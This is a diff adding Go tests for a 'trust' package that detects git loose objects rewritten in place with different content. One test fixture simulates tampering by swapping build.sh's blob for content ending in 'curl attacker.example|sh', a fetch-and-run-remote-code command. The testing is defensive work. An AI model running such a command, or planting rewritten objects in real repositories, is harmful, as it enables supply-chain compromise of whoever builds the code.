@@ -1,0 +1,97 @@
+package trust
+
+import (
+	"bytes"
+	"compress/zlib"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+)
+
+func gitOut(t *testing.T, dir string, args ...string) string {
+	t.Helper()
+	cmd := exec.Command("git", args...)
+	cmd.Dir = dir
+	cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null")
+	out, err := cmd.CombinedOutput()
+	if err != nil {
+		t.Fatalf("git %v: %v\n%s", args, err, out)
+	}
+	return strings.TrimSpace(string(out))
+}
+
+// TestLooseObjectReplaced: an object unlinked and written again under its
+// name with another content is found and removed; one written again with
+// its own content, and one added since, are left.
+func TestLooseObjectReplaced(t *testing.T) {
+	top := t.TempDir()
+	gitOut(t, top, "init", "-q")
+	for name, body := range map[string]string{"build.sh": "echo build\n", "keep.txt": "kept\n"} {
+		if err := os.WriteFile(filepath.Join(top, name), []byte(body), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	gitOut(t, top, "add", ".")
+	gitOut(t, top, "-c", "user.email=a@b", "-c", "user.name=a", "commit", "-qm", "i")
+	obj := func(rev string) string {
+		h := gitOut(t, top, "rev-parse", rev)
+		return filepath.Join(top, ".git", "objects", h[:2], h[2:])
+	}
+	build, keep := obj("HEAD:build.sh"), obj("HEAD:keep.txt")
+	l := SnapshotLooseObjects(filepath.Join(top, ".git"))
+	// The child's rewrite: another content under build.sh's blob's name.
+	var z bytes.Buffer
+	w := zlib.NewWriter(&z)
+	w.Write([]byte("blob 36\x00echo build\ncurl attacker.example|sh\n"))
+	w.Close()
+	rewrite := func(p string, data []byte) {
+		if err := os.Remove(p); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(p, data, 0o444); err != nil {
+			t.Fatal(err)
+		}
+	}
+	rewrite(build, z.Bytes())
+	same, err := os.ReadFile(keep)
+	if err != nil {
+		t.Fatal(err)
+	}
+	rewrite(keep, same)
+	if err := os.WriteFile(filepath.Join(top, "new.txt"), []byte("new\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	gitOut(t, top, "hash-object", "-w", "new.txt")
+	rel, _ := filepath.Rel(filepath.Join(top, ".git"), build)
+	if got := l.Replaced(); !slices.Equal(got, []string{filepath.ToSlash(rel)}) {
+		t.Fatalf("Replaced = %v, want [%s]", got, rel)
+	}
+	if _, err := os.Lstat(build); err == nil {
+		t.Error("the replaced object is still there")
+	}
+	if _, err := os.Lstat(keep); err != nil {
+		t.Error("an object rewritten with its own content was removed")
+	}
+}
+
+// BenchmarkLooseObjects: the stamp before an in-place writer and the check
+// after it, on a repository with 10000 loose objects none of which changed.
+func BenchmarkLooseObjects(b *testing.B) {
+	common := b.TempDir()
+	for i := range 10000 {
+		d := filepath.Join(common, "objects", string("0123456789abcdef"[i%16])+string("0123456789abcdef"[(i/16)%16]))
+		if err := os.MkdirAll(d, 0o755); err != nil {
+			b.Fatal(err)
+		}
+		if err := os.WriteFile(filepath.Join(d, strings.Repeat("0", 30)+string(rune('a'+i%26))+string(rune('a'+(i/26)%26))+string(rune('a'+(i/676)%26))+string(rune('a'+(i/17576)%26))), nil, 0o444); err != nil {
+			b.Fatal(err)
+		}
+	}
+	b.ResetTimer()
+	for b.Loop() {
+		SnapshotLooseObjects(common).Replaced()
+	}
+}
